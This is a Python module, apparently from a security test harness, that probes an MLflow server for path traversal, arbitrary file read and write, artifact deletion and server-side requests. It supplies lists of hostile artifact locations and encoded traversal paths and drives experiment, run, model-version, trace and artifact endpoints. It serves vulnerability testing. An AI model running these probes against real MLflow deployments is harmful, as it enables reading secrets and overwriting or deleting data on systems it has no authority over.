"""Ways to have MLflow open a location that an attacker names, and the locations that an attacker would name."""

from __future__ import annotations

import base64
import http.client
import json
import uuid
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote, urlsplit

FILE = "secret.txt"  # that lies at each location which can be read
WRITTEN = "written-by-attack.txt"
API, AJAX = "/api/2.0/mlflow", "/ajax-api/2.0/mlflow"


@dataclass(frozen=True)
class Answer:
    """What a request was answered with; status 0 where the connection broke or timed out."""

    status: int
    body: bytes

    @property
    def json(self) -> Any:
        """The body as JSON; empty where it is none."""
        try:
            return json.loads(self.body)
        except ValueError:
            return {}


@dataclass
class Client:
    """Sends requests as they are written: other clients mend paths before they send them.

    Attributes:
        url: of MLflow.
        login: user and password, or None.
        answers: of all requests so far.
        asked: what they were, in the same order.
    """

    url: str
    login: tuple[str, str] | None = None
    timeout_s: float = 60.0
    answers: list[Answer] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def ask(self, method: str, target: str, body: Any = None, headers: dict[str, str] | None = None) -> Answer:
        """Sends one request; a body that is no bytes goes as JSON."""
        sent = {"Host": urlsplit(self.url).netloc}
        if self.login is not None:
            sent["Authorization"] = "Basic " + base64.b64encode(":".join(self.login).encode()).decode()
        payload = body if isinstance(body, bytes) or body is None else json.dumps(body).encode()
        if payload is not None and not isinstance(body, bytes):
            sent["Content-Type"] = "application/json"
        sent |= headers or {}
        place = urlsplit(self.url)
        connection = http.client.HTTPConnection(str(place.hostname), place.port, timeout=self.timeout_s)
        try:
            connection.putrequest(method, target, skip_host=True, skip_accept_encoding=True)
            for name, value in sent.items():
                connection.putheader(name, value)
            connection.putheader("Content-Length", str(len(payload or b"")))
            connection.endheaders(payload or b"")
            response = connection.getresponse()
            answer = Answer(response.status, response.read())
        except (OSError, http.client.HTTPException) as error:
            answer = Answer(0, repr(error).encode())
        finally:
            connection.close()
        self.answers.append(answer)
        self.asked.append(f"{method} {target} {'' if isinstance(body, bytes) else json.dumps(body)}")
        return answer


def locations(*, bucket: str, prefix: str, folder: Path, artifacts: Path, port: int) -> list[str]:
    """Returns the locations that an attacker names.

    Args:
        bucket: of the platform, which holds `prefix` with the file.
        prefix: of a key.
        folder: on this machine, outside `artifacts`, with the file in it.
        artifacts: MLflow's own folder.
        port: on which a listener counts who connects.
    """
    up = "/".join([".."] * 12)
    climbed = f"{up}{folder}"
    files = [f"file://{folder}", f"file:{folder}", f"{folder}", f"file://localhost{folder}", f"FILE://{folder}"]
    files += [f"file://{artifacts}/{climbed}", f"{artifacts}/{climbed}", f"file://{folder}?x=1", f"file:///{climbed}"]
    files += [f"file://{artifacts}/{quote(climbed, safe='')}", f"file://{artifacts}", "."]
    proxied = [f"mlflow-artifacts:/{climbed}", f"mlflow-artifacts:{folder}", f"mlflow-artifacts:/{quote(climbed)}"]
    proxied += [f"mlflow-artifacts:/{quote(quote(climbed, safe=''), safe='')}", "mlflow-artifacts:/%2e%2e/%2e%2e"]
    stores = [f"s3://{bucket}/{prefix}", f"s3://{bucket}", f"S3://{bucket}/{prefix}", f"s3:///{bucket}/{prefix}"]
    stores += [f"{scheme}://{bucket}/{prefix}" for scheme in ("s3a", "s3n", "gs", "oss", "r2", "b2")]
    stores += [f"wasbs://{bucket}@account.blob.core.windows.net/x", f"abfss://{bucket}@account.dfs.core.windows.net/x"]
    stores += ["dbfs:/databricks/x", "dbfs:/Volumes/a/b/c", "uc:/models/x", "databricks://profile/x"]
    schemes = ("http", "https", "ftp", "sftp", "hdfs", "viewfs", "mlflow-artifacts", "r2", "b2", "abfss")
    hosts = [f"{scheme}://127.0.0.1:{port}/x" for scheme in schemes]
    hosts += [f"http://127.0.0.1:{port}/api/2.0/mlflow-artifacts/artifacts/{climbed}", f"r2://x@127.0.0.1:{port}"]
    logical = [
        "models:/other/1",
        f"models:/{climbed}",
        f"runs:/{climbed}",
        "runs:/0123/x",
        "sqlite:///x.db",
        "nosuch:/x",
    ]
    return [*stores, *files, *proxied, *hosts, *logical]


def paths(folder: Path) -> list[str]:
    """Returns paths below `artifacts/…` that lead to `folder`, if followed."""
    climbed = "/".join([".."] * 12) + str(folder / FILE)
    dots = climbed.replace("..", "%2e%2e")
    return [
        climbed,
        dots,
        quote(climbed, safe=""),
        quote(quote(climbed, safe=""), safe=""),
        climbed.replace("/", "\\"),
        quote(climbed.replace("/", "\\"), safe=""),
        str(folder / FILE),
        quote(str(folder / FILE), safe=""),
        f"file://{folder / FILE}",
        quote(f"file://{folder / FILE}", safe=""),
        f"a/{climbed}",
        f"a/%00/{dots}",
        climbed.replace("../", "....//"),
        "%c0%ae%c0%ae/" * 12 + str(folder / FILE),
    ]


def by_experiment(client: Client, location: str) -> Iterator[str]:
    """An experiment that lies there: its runs, its logged models and its traces. Yields the ids of its runs."""
    made = client.ask("POST", f"{API}/experiments/create", {"name": _name(), "artifact_location": location})
    if (experiment := made.json.get("experiment_id")) is None:
        return
    run = client.ask("POST", f"{API}/runs/create", {"experiment_id": experiment}).json
    run_id = run.get("run", {}).get("info", {}).get("run_id")
    if run_id is not None:
        yield run_id
        for path in ("", f"&path={FILE}", "&path=.."):
            client.ask("GET", f"{API}/artifacts/list?run_id={run_id}{path}")
        for path in (FILE, "../" + FILE, "traces.json"):
            client.ask("GET", f"/get-artifact?run_uuid={run_id}&path={path}")
        for path in (WRITTEN, "../" + WRITTEN, "sub/" + WRITTEN):
            client.ask("POST", f"{AJAX}/upload-artifact?run_uuid={run_id}&path={path}", b"written")
        for kind in ("upload", "download"):
            client.ask("POST", f"{API}/artifacts/presigned-{kind}-url", {"run_id": run_id, "path": FILE})
    logged = client.ask("POST", f"{API}/logged-models", {"experiment_id": experiment, "name": "m"}).json
    if (model_id := logged.get("model", {}).get("info", {}).get("model_id")) is not None:
        client.ask("GET", f"{API}/logged-models/{model_id}/artifacts/directories")
        for path in (FILE, f"../{FILE}", f"../../{FILE}"):
            client.ask("GET", f"{AJAX}/logged-models/{model_id}/artifacts/files?artifact_file_path={path}")
        client.ask("POST", f"{API}/artifacts/presigned-upload-url", {"model_id": model_id, "path": FILE})
        by_version(client, f"models:/{model_id}", model_id=model_id)
    by_trace(client, None, experiment=experiment)


def by_version(client: Client, location: str, *, run_id: str = "", model_id: str = "") -> None:
    """A version of a model whose source lies there."""
    name = _name()
    client.ask("POST", f"{API}/registered-models/create", {"name": name})
    body = {"name": name, "source": location, "run_id": run_id, "model_id": model_id}
    made = client.ask("POST", f"{API}/model-versions/create", {key: value for key, value in body.items() if value})
    if "model_version" not in made.json:
        return
    client.ask("GET", f"{API}/model-versions/get-download-uri?name={name}&version=1")
    for path in (FILE, "../" + FILE, ".", "sub/" + FILE):
        client.ask("GET", f"/model-versions/get-artifact?name={name}&version=1&path={path}")


def by_trace(client: Client, location: str | None, *, experiment: str = "0") -> None:
    """A trace whose data lies there: the location is a tag, which anyone may set."""
    start = {"experiment_id": experiment, "timestamp_ms": 1, "tags": []}
    tag = {"key": "mlflow.artifactLocation", "value": location}
    for given in ([tag], []) if location is not None else ([],):
        made = client.ask("POST", f"{API}/traces", {**start, "tags": given, "request_metadata": []}).json
        if (request_id := made.get("trace_info", {}).get("request_id")) is None:
            continue
        if location is not None:
            client.ask("PATCH", f"{API}/traces/{request_id}/tags", tag)
        client.ask("PATCH", f"{API}/traces/{request_id}", {"request_id": request_id, "timestamp_ms": 2, "status": "OK"})
        for route in (f"{AJAX}/get-trace-artifact", "/ajax-api/3.0/mlflow/get-trace-artifact"):
            client.ask("GET", f"{route}?request_id={request_id}")
            client.ask("GET", f"{route}?request_id={request_id}&path={FILE}")
        client.ask("GET", f"/api/3.0/mlflow/traces/get?trace_id={request_id}")
        client.ask("GET", f"/api/3.0/mlflow/traces/batchGet?trace_ids={request_id}")


def by_path(client: Client, path: str) -> None:
    """The artifacts themselves, below a path that leads out of their folder."""
    for root in ("/api/2.0/mlflow-artifacts", "/ajax-api/2.0/mlflow-artifacts"):
        client.ask("GET", f"{root}/artifacts/{path}")
        client.ask("PUT", f"{root}/artifacts/{path}-{WRITTEN}", b"written")
        client.ask("PUT", f"{root}/artifacts/{path}", b"written")
        client.ask("DELETE", f"{root}/artifacts/{path}")
        client.ask("GET", f"{root}/artifacts?path={path.removesuffix('/' + FILE)}")
        client.ask("GET", f"{root}/presigned/{path}")
        client.ask("POST", f"{root}/mpu/create/{path}", {"path": FILE, "num_parts": 1})


def _name() -> str:
    return f"attack-{uuid.uuid4().hex[:12]}"
